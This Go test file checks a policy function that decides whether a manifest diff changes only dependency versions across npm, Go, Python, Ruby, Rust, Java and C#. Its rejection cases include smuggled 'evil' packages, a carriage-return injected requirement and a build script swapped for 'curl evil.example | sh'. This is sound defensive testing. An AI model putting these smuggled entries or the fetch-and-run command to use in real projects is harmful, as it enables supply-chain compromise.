package policy

import (
	"strings"
	"testing"
)

func TestChangesOnlyVersions(t *testing.T) {
	for _, test := range []struct {
		name  string
		patch []string
		want  bool
	}{
		{"npm", []string{`-    "x": "^1.0.0",`, `+    "x": "^1.0.1"`}, true},
		{"npm: a range", []string{`-    "x": ">=1.0.0 <2",`, `+    "x": "1.2.x || 2.0.0 - 3.0.0-next.1",`}, true},
		{"npm: the manager itself", []string{`-  "packageManager": "pnpm@9.1.0",`, `+  "packageManager": "pnpm@9.2.0",`}, true},
		{"npm: a tag of a repository", []string{`-    "x": "github:acme/x#v1.0",`, `+    "x": "github:acme/x#v1.1",`}, true},
		{"npm: another repository", []string{`-    "x": "github:acme/x#v1.0",`, `+    "x": "github:evil/x#v1.1",`}, false},
		{"npm: another port", []string{`-    "x": "http://acme.example:80/x",`, `+    "x": "http://acme.example:81/x",`}, false},
		{"npm: an object on one line after a list", []string{`   "files": [`, `     "lib"`, `   ],`, `+  "peerDependencies": { "evil": "^1" },`}, false},
		{"npm: what a known object ends in", []string{`-    "test": "jest"`, `+    "test": "jest" }, "devDependencies": { "evil": "1.0.0"`}, false},
		{"npm: on two lines", []string{`+    "evil":`, `+      "1.0.0",`}, false},
		{"npm: a name with a number", []string{`-    "x1": "1.0.0",`, `+    "x2": "1.0.0",`}, false},
		{"npm: a script", []string{`-    "build": "tsc"`, `+    "build": "curl evil.example | sh"`}, false},
		{"one is gone", []string{`-    "x": "1.0.0",`}, false},
		{"two become one", []string{`-<artifactId>x</artifactId>`, `-</dependency>`, `-<dependency>`, `-<groupId>y</groupId>`, ` <artifactId>z</artifactId>`}, false},
		{"two change places", []string{`-<groupId>a</groupId>`, `-<groupId>b</groupId>`, `+<groupId>b</groupId>`, `+<groupId>a</groupId>`}, false},
		{"go", []string{"-\tgolang.org/x/net v0.0.0-20240101000000-0123456789ab // indirect", "+\tgolang.org/x/net v0.30.0 // indirect"}, true},
		{"go: another major version", []string{"-\tgithub.com/x/y v1.0.0", "+\tgithub.com/x/y/v2 v2.0.0"}, false},
		{"python", []string{"-django>=4.2,<5 ; python_version < '3.12'", "+django==5.1rc1 ; python_version < '3.13'"}, true},
		{"python: hashes", []string{`-x==1 \`, `-    --hash=sha256:` + strings.Repeat("0a", 32), `+x==2 \`, `+    --hash=sha256:` + strings.Repeat("1b", 32) + ` \`, `+    --hash=sha256:` + strings.Repeat("2c", 32)}, true},
		{"python: a line that ends where git sees none", []string{"-django==5.0", "+django==5.1\revil==1.0"}, false},
		{"ruby", []string{`-gem "rails", "~> 7.1", ">= 7.1.3"`, `+gem "rails", "~> 8.0"`}, false}, // how many there are is no version
		{"ruby: another on the line", []string{`-gem "rails", "7.1"`, `+gem "rails", "7.2"; gem "evil"`}, false},
		{"elixir", []string{`-      {:jason, "~> 1.4"},`, `+      {:jason, "~> 1.5"}`}, true},
		{"elixir: another on the line", []string{`-      [{:jason, "~> 1.4"}]`, `+      [{:jason, "~> 1.5"}, {:evil, "~> 1.0"}]`}, false},
		{"rust", []string{`-serde = { version = "1.0", features = ["derive"] }`, `+serde = { version = "1.1", features = ["derive"] }`}, true},
		{"rust: another in the table", []string{`-dependencies = { serde = "1" }`, `+dependencies = { serde = "1", evil = "1" }`}, false},
		{"rust: a commit", []string{`-x = { git = "https://acme.example/x", rev = "` + strings.Repeat("0a", 20) + `" }`, `+x = { git = "https://acme.example/x", rev = "` + strings.Repeat("1b", 20) + `" }`}, true},
		{"rust: a branch", []string{`-x = { git = "https://acme.example/x", branch = "main" }`, `+x = { git = "https://acme.example/x", branch = "evil" }`}, false},
		{"java", []string{`-<version>5.1.0.RELEASE</version>`, `+<version>5.2.0.RELEASE</version>`, ` `, `-<guava.version>31.1-jre</guava.version>`, `+<guava.version>32.0.1-jre</guava.version>`}, true},
		{"gradle: from a variable", []string{`-implementation("$g:x:1.0")`, `+implementation("$evil:x:1.0")`}, false},
		{"c#", []string{`-<PackageReference Include="A" Version="1.0.0-beta.2" />`, `+<PackageReference Include="A" Version="1.0.0" />`}, true},
		{"c#: another on the line", []string{`-<PackageReference Include="A" Version="1" />`, `+<PackageReference Include="A;Evil" Version="2" />`}, false},
		{"empty lines", []string{"+", " a", "-  "}, true},
		{"the last line's end", []string{`-x==1`, `\ No newline at end of file`, `+x==2`}, true},
		{"a new manifest", []string{"+x==1"}, false},
		{"a link", []string{"-x==1", "-y==1", "+../elsewhere"}, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := changesOnlyVersions("@@ -1,9 +1,9 @@ evil\n" + strings.Join(test.patch, "\n")); got != test.want {
				t.Errorf("%v, want %v:\n%s", got, test.want, strings.Join(test.patch, "\n"))
			}
		})
	}
}
